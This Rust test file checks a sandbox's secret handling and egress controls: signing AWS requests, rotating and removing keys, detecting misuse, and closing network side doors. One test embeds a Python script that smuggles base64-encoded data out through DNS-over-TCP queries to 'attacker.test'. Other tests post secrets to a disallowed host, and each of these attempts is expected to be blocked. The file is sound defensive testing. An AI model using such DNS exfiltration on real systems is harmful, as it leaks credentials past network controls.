//! Secrets of contained runs as an operator keeps them: added, listed, rotated, removed; signed with, put into bodies, misused.

use std::process::Output;

use crate::support::contained::{BAD, GOOD, REAL, World};
use crate::support::sigv4;

const ID: &str = "AKIAREALREALREALREAL";
const KEY: &str = "REALREAL/REALREALREALREAL+REALREALREAL00";
const TOKEN: &str = "FwoREALREAL////REALREALREALREALREALREALREALREAL==";

fn text(output: &Output) -> String {
    [&output.stdout[..], &output.stderr].concat().iter().map(|byte| char::from(*byte)).collect()
}

/// curl signs with what it finds in the run; the host takes no signature but that of the real key.
#[test]
fn requests_to_aws_arrive_signed_with_the_real_key() {
    for (port, token) in [("443", None), ("8443", Some(TOKEN))] {
        let world = World::new("");
        let value = [Some(ID), Some(KEY), token].into_iter().flatten().collect::<Vec<_>>().join(":");
        let added = world.secret_command(&["add", "aws", "--aws", "--host", GOOD, "--port", port], &value);
        assert!(added.status.success(), "{}", text(&added));
        let token_header = token.map_or("", |_| "-H \"x-amz-security-token: $AWS_SESSION_TOKEN\"");
        let curl = |service: &str, rest: &str| {
            let sign = format!("--aws-sigv4 aws:amz:eu-west-1:{service}");
            format!("curl -sS {sign} --user \"$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY\" {token_header} {rest}\n")
        };
        let at = format!("https://{GOOD}:{port}");
        let ran = world.run(
            &[
                curl("s3", &format!("{at}/bucket/key")),
                curl("s3", &format!("'{at}/bucket?list-type=2&prefix=x'")),
                curl("s3", &format!("-X PUT --data-binary content {at}/bucket/put")),
                curl(
                    "dynamodb",
                    &format!("-H 'x-amz-target: DynamoDB_20120810.ListTables' -d '{{\"Limit\":1}}' {at}/"),
                ),
                "echo \"[$AWS_ACCESS_KEY_ID]\"".to_owned(),
            ]
            .concat(),
        );
        let requests = world.internet.requests();
        assert_eq!(requests.len(), 4, "{}\n{}", ran.said, ran.told);
        for request in &requests {
            sigv4::check(request, ID, KEY).unwrap_or_else(|why| panic!("{why}\n\n{request}"));
            assert_eq!(request.contains(TOKEN), token.is_some(), "{request}");
        }
        let inside = ran.said.split('[').nth(1).and_then(|rest| rest.split(']').next()).expect("an id");
        assert!(inside.starts_with("AKIA") && inside.len() == ID.len() && inside != ID);
        assert!(!requests.concat().contains(inside));
        // What the host repeats of it does not come in.
        assert!(!ran.said.contains("REALREAL") && ran.said.contains("ECHO"), "{}", ran.said);
        let rows = world.shown(&ran);
        assert!(rows.iter().any(|row| row["detail"]["secrets"] == "aws" && row["effect"] == "allow"), "{rows:#?}");
    }
}

#[test]
fn a_secret_is_rotated_and_removed_and_never_shown() {
    const NEXT: &str = "sk-proj-NEXTNEXTNEXTNEXTNEXTNEXT0123456789";
    let world = World::new(&format!("[settings]\nhosts = [{GOOD:?}]\n"));
    let ask = format!("curl -sS https://{GOOD}/v1 -H \"authorization: Bearer $OPENAI_API_KEY\"");
    world.secret("openai", &["--host", GOOD, "--variable", "OPENAI_API_KEY", "--path", "/v1"]);
    let add_again = world.secret_command(&["add", "openai", "--host", BAD], NEXT);
    assert!(text(&add_again).contains("bulkhead secret rotate openai"), "{}", text(&add_again));
    world.run(&ask).says("ECHO");
    assert!(world.internet.received().contains(&format!("Bearer {REAL}")));
    for (words, why) in [(["rotate", "opena1"], "there is no secret opena1"), (["rotate", "openai"], "too short")] {
        let refused = world.secret_command(&words, "short");
        assert!(!refused.status.success() && text(&refused).contains(why), "{}", text(&refused));
    }
    let rotated = world.secret_command(&["rotate", "openai"], NEXT);
    assert!(rotated.status.success() && text(&rotated).contains("has a new value"), "{}", text(&rotated));
    let ran = world.run(&ask);
    let last = world.internet.requests().pop().expect("a request");
    assert!(last.contains(&format!("Bearer {NEXT}")) && !last.contains(REAL), "{last}");
    assert!(!ran.said.contains("NEXTNEXT"), "{}", ran.said);
    // What it is for is as it was, and no list shows a value.
    for format in [&["secret", "list"][..], &["--format", "json", "secret", "list"]] {
        let listed = text(&world.bulkhead(format));
        assert!(listed.contains("openai") && listed.contains("/v1") && listed.contains("OPENAI_API_KEY"), "{listed}");
        assert!(!listed.contains("REALREAL") && !listed.contains("NEXTNEXT"), "{listed}");
    }
    let gone = world.bulkhead(&["secret", "remove", "openai"]);
    assert!(gone.status.success() && text(&gone).contains("removed"), "{}", text(&gone));
    assert!(!world.bulkhead(&["secret", "remove", "openai"]).status.success());
    assert!(text(&world.bulkhead(&["secret", "list"])).contains("no secrets"));
    let ran = world.run(&format!("echo \"[$OPENAI_API_KEY]\"; {ask}"));
    ran.says("[]\n");
    assert!(!world.internet.requests().pop().expect("a request").contains("NEXTNEXT"));
    let entries = text(&world.bulkhead(&["--format", "json", "ledger", "show", "--last", "100"]));
    for action in ["secret-add", "secret-rotate", "secret-remove"] {
        assert!(entries.contains(action), "no {action}: {entries}");
    }
    assert!(!entries.contains("REALREAL") && !entries.contains("NEXTNEXT"), "{entries}");
}

#[test]
fn a_secret_for_bodies_is_put_there_and_its_misuse_is_of_high_severity() {
    let world = World::new(&format!("[settings]\nhosts = [{BAD:?}]\nopen = [{BAD:?}]\n"));
    world.secret("form", &["--host", GOOD, "--variable", "FORM", "--path", "/login", "--method", "post", "--body"]);
    assert!(text(&world.bulkhead(&["secret", "list"])).contains("and in bodies"));
    let refused = world.secret_command(&["add", "aws", "--aws", "--body", "--host", GOOD], &format!("{ID}:{KEY}"));
    assert!(!refused.status.success(), "{}", text(&refused));
    let chunked = "-H 'transfer-encoding: chunked'";
    let ran = world.run(&format!(
        "curl -sS https://{GOOD}/login --data-urlencode \"client_secret=$FORM\" -d a=b; echo
         curl -sS https://{GOOD}/login {chunked} --data-binary \"{{\\\"client_secret\\\": \\\"$FORM\\\"}}\"; echo
         echo '[misuse]'; curl -sS https://{GOOD}/other -d \"$FORM\"; curl -sS https://{BAD}/login -d \"$FORM\""
    ));
    let requests = world.internet.requests();
    assert_eq!(requests.len(), 2, "{requests:#?}\n{}", ran.said);
    for request in &requests {
        assert!(request.contains(REAL) && request.contains("POST /login"), "{request}");
        let body = request.split("\r\n\r\n").nth(1).expect("a body");
        assert!(request.to_lowercase().contains(&format!("content-length: {}\r\n", body.len())), "{request}");
    }
    assert!(!ran.said.contains("REALREAL"), "{}", ran.said);
    assert_eq!(ran.said.matches("\"code\":\"egress-secret-misuse\"").count(), 2, "{}", ran.said);
    let rows = world.shown(&ran);
    let used: Vec<_> = rows.iter().filter(|row| row["detail"]["place"] == "body").collect();
    assert_eq!(used.len(), 2, "{rows:#?}");
    let misused: Vec<_> = rows.iter().filter(|row| row["rule"] == "secret-misuse").collect();
    assert!(misused.len() == 2 && misused.iter().all(|row| row["detail"]["severity"] == "high"), "{rows:#?}");
    ran.told("secret-misuse");
}

/// A login that answers with a token: the run works with a placeholder, and the record says so.
#[test]
fn what_a_host_makes_of_a_secret_stays_outside_too() {
    const MINTED: &str = "eyJhbGciOiJub25lIn0.eyJzdWIiOiJtZSJ9.MINTEDMINTEDMINTEDMINTEDMINTEDMINTED";
    let world = World::new("");
    world.secret("form", &["--host", GOOD, "--variable", "FORM", "--path", "/login", "--body"]);
    world.internet.put("/login", format!("{{\"access_token\": \"{MINTED}\", \"expires_in\": 60}}"));
    let ran = world.run(&format!(
        "curl -sS https://{GOOD}/login -d \"client_secret=$FORM\" > answer; cat answer; echo
         token=$(sed 's/.*access_token\": \"\\([^\"]*\\).*/\\1/' answer)
         curl -sS https://{GOOD}/data -H \"authorization: Bearer $token\"; echo '[foreign]'
         curl -sS https://{BAD}/data -H \"authorization: Bearer $token\""
    ));
    assert!(ran.said.contains("eyJzdWIiOiJtZSJ9.") && !ran.said.contains("MINTEDMINTED"), "{}", ran.said);
    let requests = world.internet.requests();
    assert!(requests.len() == 2 && requests[1].contains(&format!("Bearer {MINTED}")), "{requests:#?}\n{}", ran.said);
    let foreign = ran.said.split("[foreign]").nth(1).expect("the last part");
    assert!(foreign.contains("egress-secret-misuse"), "{foreign}");
    let rows = world.shown(&ran);
    let minted = rows.iter().find(|row| row["rule"] == "minted").unwrap_or_else(|| panic!("{rows:#?}"));
    assert_eq!(minted["about"], format!("{GOOD}:443 access_token of form"));
    assert_eq!(minted["effect"], "transform");
    assert!(!format!("{rows:?}").contains("MINTEDMINTED"));
}

/// Where the network says yes to everything: DNS over TCP, another address with the proxy's port, the proxy as a way to itself.
#[test]
fn side_doors_of_the_way_out_are_closed() {
    let hosts = format!("[{GOOD:?}, \"127.0.0.1\", \"127.0.0.2\"]");
    let world = World::new(&format!("[settings]\nhosts = {hosts}\nprivate = {hosts}\n"));
    let dns = r#"
import socket, struct
def ask(name):
    return b"\0\7\1\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0\0\1\0\1"
for server in ["198.51.100.53", "127.0.0.53"]:
    try:
        s = socket.create_connection((server, 53), 5)
        for name in ["c2VjcmV0.attacker.test", "bW9yZQ.attacker.test"]:
            message = ask(name)
            s.sendall(struct.pack("!H", len(message)) + message)
            size = struct.unpack("!H", s.recv(2))[0]
            print("tcp", server, socket.inet_ntoa(s.recv(size)[-4:]))
        s.sendall(struct.pack("!H", 12) + b"\0" * 12)
        print("rest", s.recv(9))
    except OSError as e: print("tcp", server, e)
"#;
    std::fs::write(world.project().join("dns.py"), dns).expect("written");
    let ran = world.run(
        "python3 dns.py
         for proxy in 127.0.0.2:3128 127.0.0.1:3128; do for url in http://127.0.0.1:3128/ http://127.0.0.2:3128/; do
         echo \"[$proxy $url]\"; curl -sS --noproxy '' -x http://$proxy $url 2>&1; echo; done; done
         echo '[tunnel]'; curl -sS --noproxy '' -p -x http://127.0.0.1:3128 http://127.0.0.2:3128/ 2>&1; echo '[end]'",
    );
    ran.says("tcp 198.51.100.53 198.18.");
    ran.says("rest b''");
    let rows = world.shown(&ran);
    let end = rows.last().expect("an end");
    assert!(end["detail"]["names-below"].as_str().is_some_and(|below| below.starts_with("attacker.test 2")), "{end}");
    assert!(!format!("{rows:?}").contains("c2VjcmV0"));
    for part in ran.said.split("[127.0.0.").skip(1) {
        assert!(!part.contains("ECHO") && (part.contains("loopback") || part.contains("curl: ")), "{part}");
    }
    for about in ["127.0.0.1:3128", "127.0.0.2:3128"] {
        let row = rows.iter().find(|row| row["about"] == about && row["rule"] == "upstream-address");
        assert!(row.is_some_and(|row| row["effect"] == "deny"), "{about}: {rows:#?}");
    }
    assert!(world.internet.requests().is_empty());
}
